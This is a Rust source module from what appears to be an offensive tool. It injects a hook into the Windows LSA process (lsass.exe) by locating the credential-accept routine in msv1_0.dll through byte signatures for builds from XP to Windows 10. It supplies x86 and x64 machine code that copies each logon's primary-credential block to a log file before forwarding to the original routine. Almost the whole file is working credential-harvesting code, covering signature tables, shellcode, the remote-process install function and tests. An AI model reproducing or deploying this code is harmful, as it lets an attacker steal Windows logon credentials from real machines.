//! Credential logging splice in the LSA authentication path
//!
//! Locates the credential-accept routine inside `msv1_0.dll` of the LSA
//! process by byte signature and splices in a replacement that appends the
//! primary-credential block to `graft.log` (relative to the LSA process's
//! working directory) before forwarding to the displaced original code.

use crate::arch::Arch;
use crate::commands::Session;
use crate::error::{GraftError, Result};
use crate::inject::template::{placeholders, CodeTemplate};
use crate::inject::trampoline::{splice, SpliceHook};
use crate::memory::scanner::Scanner;
use crate::memory::space::MemorySpace;
use crate::patch::table::{PatchEntry, PatchTable};
use crate::process::locator::find_process_by_name;
use crate::process::modules::find_module;
use crate::version::builds;

const LSA_PROCESS: &str = "lsass.exe";
const AUTH_PACKAGE: &str = "msv1_0.dll";

// signatures inside the credential-accept routine; patch_offset reaches
// back to the function prologue and aux_offset is the displaced length
const PTRN_WIN5_X64: &[u8] = &[
    0x49, 0x8B, 0xD0, 0x4D, 0x8B, 0xC1, 0xEB, 0x08, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90,
    0x90, 0x89, 0x4C, 0x24, 0x08,
];
const PTRN_WI6X_X64: &[u8] = &[
    0x57, 0x48, 0x83, 0xEC, 0x20, 0x49, 0x8B, 0xD9, 0x49, 0x8B, 0xF8, 0x8B, 0xF1, 0x48,
];
const PTRN_WI81_X64: &[u8] = &[
    0x48, 0x83, 0xEC, 0x20, 0x49, 0x8B, 0xD9, 0x49, 0x8B, 0xF8, 0x8B, 0xF1, 0x48,
];

const ACCEPT_X64: PatchTable = PatchTable {
    context: "msv1_0 credential accept",
    entries: &[
        PatchEntry {
            min_build: builds::SERVER_2K3,
            search: PTRN_WIN5_X64,
            replace: &[],
            patch_offset: 0,
            aux_offset: 20,
        },
        PatchEntry {
            min_build: builds::VISTA,
            search: PTRN_WI6X_X64,
            replace: &[],
            patch_offset: -15,
            aux_offset: 15,
        },
        PatchEntry {
            min_build: builds::WIN_8,
            search: PTRN_WI81_X64,
            replace: &[],
            patch_offset: -17,
            aux_offset: 15,
        },
        PatchEntry {
            min_build: builds::WIN_10_1703,
            search: PTRN_WI81_X64,
            replace: &[],
            patch_offset: -16,
            aux_offset: 15,
        },
        PatchEntry {
            min_build: builds::WIN_10_1803,
            search: PTRN_WI81_X64,
            replace: &[],
            patch_offset: -17,
            aux_offset: 15,
        },
        PatchEntry {
            min_build: builds::WIN_10_1809,
            search: PTRN_WI81_X64,
            replace: &[],
            patch_offset: -16,
            aux_offset: 15,
        },
    ],
};

const PTRN_WIN5_X86: &[u8] = &[
    0x8B, 0xFF, 0x55, 0x8B, 0xEC, 0xFF, 0x75, 0x14, 0xFF, 0x75, 0x10, 0xFF, 0x75, 0x08, 0xE8,
];
const PTRN_WI6X_X86: &[u8] = &[
    0xFF, 0x75, 0x14, 0xFF, 0x75, 0x10, 0xFF, 0x75, 0x08, 0xE8, 0x24, 0x00, 0x00, 0x00,
];
const PTRN_WI80_X86: &[u8] = &[
    0xFF, 0x75, 0x08, 0x8B, 0x4D, 0x14, 0x8B, 0x55, 0x10, 0xE8,
];
const PTRN_WI81_X86: &[u8] = &[
    0xFF, 0x75, 0x14, 0x8B, 0x55, 0x10, 0x8B, 0x4D, 0x08, 0xE8,
];
const PTRN_1703_X86: &[u8] = &[
    0x8B, 0x55, 0x10, 0x8B, 0x4D, 0x08, 0x56, 0xFF, 0x75, 0x14, 0xE8,
];

const ACCEPT_X86: PatchTable = PatchTable {
    context: "msv1_0 credential accept",
    entries: &[
        PatchEntry {
            min_build: builds::XP,
            search: PTRN_WIN5_X86,
            replace: &[],
            patch_offset: 0,
            aux_offset: 5,
        },
        PatchEntry {
            min_build: builds::VISTA,
            search: PTRN_WI6X_X86,
            replace: &[],
            patch_offset: -41,
            aux_offset: 5,
        },
        PatchEntry {
            min_build: builds::WIN_8,
            search: PTRN_WI80_X86,
            replace: &[],
            patch_offset: -43,
            aux_offset: 5,
        },
        PatchEntry {
            min_build: builds::WIN_BLUE,
            search: PTRN_WI81_X86,
            replace: &[],
            patch_offset: -39,
            aux_offset: 5,
        },
        PatchEntry {
            min_build: builds::WIN_10_1703,
            search: PTRN_1703_X86,
            replace: &[],
            patch_offset: -28,
            aux_offset: 15,
        },
    ],
};

// replacement for the credential-accept routine (x64)
//
// args: rcx=logon type, rdx=account name, r8=primary credential block,
// r9=supplemental. Appends 0x100 bytes of the credential block to
// "graft.log", then tail-jumps to the forwarder so the original logic
// still runs. The filename and mode strings are built on the stack so the
// blob stays position independent.
//
// SLOT_A=fopen SLOT_B=fwrite SLOT_C=fclose SLOT_D=forwarder
const LOG_X64: &[u8] = &[
    0x48, 0x89, 0x4C, 0x24, 0x08, // mov [rsp+0x08], rcx
    0x48, 0x89, 0x54, 0x24, 0x10, // mov [rsp+0x10], rdx
    0x4C, 0x89, 0x44, 0x24, 0x18, // mov [rsp+0x18], r8
    0x4C, 0x89, 0x4C, 0x24, 0x20, // mov [rsp+0x20], r9
    0x48, 0x83, 0xEC, 0x58, // sub rsp, 0x58
    0xC7, 0x44, 0x24, 0x30, 0x67, 0x72, 0x61, 0x66, // mov dword [rsp+0x30], "graf"
    0xC7, 0x44, 0x24, 0x34, 0x74, 0x2E, 0x6C, 0x6F, // mov dword [rsp+0x34], "t.lo"
    0xC7, 0x44, 0x24, 0x38, 0x67, 0x00, 0x00, 0x00, // mov dword [rsp+0x38], "g"
    0xC7, 0x44, 0x24, 0x40, 0x61, 0x62, 0x00, 0x00, // mov dword [rsp+0x40], "ab"
    0x48, 0x8D, 0x4C, 0x24, 0x30, // lea rcx, [rsp+0x30]
    0x48, 0x8D, 0x54, 0x24, 0x40, // lea rdx, [rsp+0x40]
    0x48, 0xB8, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, // mov rax, fopen
    0xFF, 0xD0, // call rax
    0x48, 0x85, 0xC0, // test rax, rax
    0x74, 0x37, // jz restore
    0x48, 0x89, 0x44, 0x24, 0x48, // mov [rsp+0x48], rax
    0x48, 0x8B, 0x4C, 0x24, 0x70, // mov rcx, [rsp+0x70] (homed credential block)
    0xBA, 0x00, 0x01, 0x00, 0x00, // mov edx, 0x100
    0x41, 0xB8, 0x01, 0x00, 0x00, 0x00, // mov r8d, 1
    0x4C, 0x8B, 0x4C, 0x24, 0x48, // mov r9, [rsp+0x48]
    0x48, 0xB8, 0x42, 0x42, 0x42, 0x42, 0x42, 0x42, 0x42, 0x42, // mov rax, fwrite
    0xFF, 0xD0, // call rax
    0x48, 0x8B, 0x4C, 0x24, 0x48, // mov rcx, [rsp+0x48]
    0x48, 0xB8, 0x43, 0x43, 0x43, 0x43, 0x43, 0x43, 0x43, 0x43, // mov rax, fclose
    0xFF, 0xD0, // call rax
    // restore:
    0x48, 0x8B, 0x4C, 0x24, 0x60, // mov rcx, [rsp+0x60]
    0x48, 0x8B, 0x54, 0x24, 0x68, // mov rdx, [rsp+0x68]
    0x4C, 0x8B, 0x44, 0x24, 0x70, // mov r8,  [rsp+0x70]
    0x4C, 0x8B, 0x4C, 0x24, 0x78, // mov r9,  [rsp+0x78]
    0x48, 0x83, 0xC4, 0x58, // add rsp, 0x58
    0x48, 0xB8, 0x44, 0x44, 0x44, 0x44, 0x44, 0x44, 0x44, 0x44, // mov rax, forwarder
    0xFF, 0xE0, // jmp rax
];

// x86 equivalent; the accept routine is stdcall with the credential block
// at [ebp+0x10]
const LOG_X86: &[u8] = &[
    0x55, // push ebp
    0x8B, 0xEC, // mov ebp, esp
    0x83, 0xEC, 0x18, // sub esp, 0x18
    0xC7, 0x45, 0xE8, 0x67, 0x72, 0x61, 0x66, // mov dword [ebp-0x18], "graf"
    0xC7, 0x45, 0xEC, 0x74, 0x2E, 0x6C, 0x6F, // mov dword [ebp-0x14], "t.lo"
    0xC7, 0x45, 0xF0, 0x67, 0x00, 0x00, 0x00, // mov dword [ebp-0x10], "g"
    0xC7, 0x45, 0xF4, 0x61, 0x62, 0x00, 0x00, // mov dword [ebp-0x0C], "ab"
    0x8D, 0x45, 0xF4, // lea eax, [ebp-0x0C]
    0x50, // push eax
    0x8D, 0x45, 0xE8, // lea eax, [ebp-0x18]
    0x50, // push eax
    0xB8, 0x41, 0x41, 0x41, 0x41, // mov eax, fopen
    0xFF, 0xD0, // call eax
    0x83, 0xC4, 0x08, // add esp, 8
    0x85, 0xC0, // test eax, eax
    0x74, 0x25, // jz restore
    0x89, 0x45, 0xF8, // mov [ebp-8], eax
    0x50, // push eax
    0x6A, 0x01, // push 1
    0x68, 0x00, 0x01, 0x00, 0x00, // push 0x100
    0xFF, 0x75, 0x10, // push dword [ebp+0x10]
    0xB8, 0x42, 0x42, 0x42, 0x42, // mov eax, fwrite
    0xFF, 0xD0, // call eax
    0x83, 0xC4, 0x10, // add esp, 0x10
    0xFF, 0x75, 0xF8, // push dword [ebp-8]
    0xB8, 0x43, 0x43, 0x43, 0x43, // mov eax, fclose
    0xFF, 0xD0, // call eax
    0x83, 0xC4, 0x04, // add esp, 4
    // restore:
    0x8B, 0xE5, // mov esp, ebp
    0x5D, // pop ebp
    0xB8, 0x44, 0x44, 0x44, 0x44, // mov eax, forwarder
    0xFF, 0xE0, // jmp eax
];

fn table(arch: Arch) -> &'static PatchTable {
    match arch {
        Arch::X86 => &ACCEPT_X86,
        Arch::X64 => &ACCEPT_X64,
    }
}

fn template(arch: Arch) -> CodeTemplate {
    let code = match arch {
        Arch::X86 => LOG_X86,
        Arch::X64 => LOG_X64,
    };
    CodeTemplate::new(arch, code)
        .with_export(placeholders::SLOT_A, "msvcrt.dll", "fopen")
        .with_export(placeholders::SLOT_B, "msvcrt.dll", "fwrite")
        .with_export(placeholders::SLOT_C, "msvcrt.dll", "fclose")
}

/// splice the credential logger into the LSA process
pub fn install(session: &Session) -> Result<SpliceHook> {
    let table = table(session.arch);
    let entry = table.select(session.build)?;

    let pid = find_process_by_name(LSA_PROCESS)?;
    let space = MemorySpace::open_remote(pid)?;
    let module = find_module(pid, AUTH_PACKAGE)?;

    let hit = Scanner::new(space.range(module.base, module.size))
        .find(entry.search)?
        .ok_or(GraftError::PatternNotFound {
            context: table.context,
        })?;
    let hook_point = hit.offset(entry.patch_offset).addr;

    let hook = splice(
        &space,
        session.arch,
        hook_point,
        entry.aux_offset as usize,
        &template(session.arch),
        Some(placeholders::SLOT_D),
    )?;
    tracing::info!(pid, hook_point, "credential logger installed");
    Ok(hook)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_table_selection_vista_range() {
        let e = ACCEPT_X64.select(builds::WIN_7_SP1).unwrap();
        assert_eq!(e.search, PTRN_WI6X_X64);
        assert_eq!(e.patch_offset, -15);
        assert_eq!(e.aux_offset, 15);
    }

    #[test]
    fn test_table_selection_1803_over_1703() {
        let e = ACCEPT_X64.select(builds::WIN_10_1803).unwrap();
        assert_eq!(e.patch_offset, -17);
        // 1809 floor picks the -16 variant again
        let e = ACCEPT_X64.select(builds::WIN_10_1809 + 500).unwrap();
        assert_eq!(e.patch_offset, -16);
    }

    #[test]
    fn test_displaced_length_covers_jump() {
        for e in ACCEPT_X64.entries {
            assert!(e.aux_offset as usize >= Arch::X64.jump_len());
        }
        for e in ACCEPT_X86.entries {
            assert!(e.aux_offset as usize >= Arch::X86.jump_len());
        }
    }

    #[test]
    fn test_templates_carry_all_placeholders() {
        for arch in [Arch::X86, Arch::X64] {
            let t = template(arch);
            let width = arch.pointer_width();
            for slot in [
                placeholders::SLOT_A,
                placeholders::SLOT_B,
                placeholders::SLOT_C,
                placeholders::SLOT_D,
            ] {
                let needle = &slot.to_le_bytes()[..width];
                assert!(
                    t.code.windows(width).any(|w| w == needle),
                    "missing slot {slot:#x} in {arch:?} template"
                );
            }
        }
    }

    #[test]
    fn test_x64_template_jz_lands_on_restore() {
        // the jz byte pair sits right after test rax, rax
        let pos = LOG_X64
            .windows(2)
            .position(|w| w == [0x74, 0x37])
            .unwrap();
        let target = pos + 2 + 0x37;
        // restore sequence starts with mov rcx, [rsp+0x60]
        assert_eq!(&LOG_X64[target..target + 5], &[0x48, 0x8B, 0x4C, 0x24, 0x60]);
    }

    #[test]
    fn test_x86_template_jz_lands_on_restore() {
        let pos = LOG_X86
            .windows(2)
            .position(|w| w == [0x74, 0x25])
            .unwrap();
        let target = pos + 2 + 0x25;
        // restore sequence starts with mov esp, ebp
        assert_eq!(&LOG_X86[target..target + 2], &[0x8B, 0xE5]);
    }
}
